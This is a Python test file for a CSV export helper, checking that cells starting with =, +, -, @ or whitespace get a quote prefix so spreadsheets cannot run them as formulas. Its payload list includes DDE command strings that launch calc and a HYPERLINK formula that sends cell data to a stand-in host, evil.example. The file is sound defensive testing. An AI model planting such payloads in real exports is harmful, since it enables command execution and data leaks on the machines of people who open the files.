"""No CSV exportflow writes can run a formula in the spreadsheet that opens it."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from services.csvout import TRIGGERS, csv_text, safe_cell

SERVICES = Path(__file__).resolve().parents[2] / "services"

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_quote_and_keeps_its_text(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["-12.50", "+3", "-1e5", "-.5", "0", -7, Decimal("-1200.00"), -0.25]
)
def test_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) == str(value)


@pytest.mark.parametrize("value", ["-1+1", "-A1", "-", "+", "@", "=", "-12.50 ", "1-1"])
def test_only_a_plain_number_escapes_the_quote(value: str) -> None:
    expected = "'" + value if value[:1] in TRIGGERS else value
    assert safe_cell(value) == expected


def test_plain_text_and_none_are_written_as_they_are() -> None:
    assert safe_cell(None) == ""
    assert safe_cell("Example Cloud Co., Ltd.") == "Example Cloud Co., Ltd."
    assert safe_cell("a=b") == "a=b"


def test_csv_text_quotes_every_formula_and_round_trips_the_rest() -> None:
    rows = [["field", "value"], *[["name", p] for p in PAYLOADS], ["amount", "-5.00"]]
    read = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    assert read[0] == ["field", "value"]
    assert [r[1] for r in read[1:-1]] == ["'" + p for p in PAYLOADS]
    assert read[-1] == ["amount", "-5.00"]


def _csv_writers(path: Path) -> list[int]:
    """Lines of `path` that build a csv.writer or csv.DictWriter of their own."""
    tree = ast.parse(path.read_text(), str(path))
    return [
        node.lineno
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute)
        and node.attr in ("writer", "DictWriter")
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
    ]


def test_every_csv_writer_in_the_services_is_the_shared_one() -> None:
    found = {
        str(path.relative_to(SERVICES)): lines
        for path in SERVICES.rglob("*.py")
        if path.name != "csvout.py" and (lines := _csv_writers(path))
    }
    assert found == {}, f"write CSV with services.csvout.csv_text, not csv.writer: {found}"
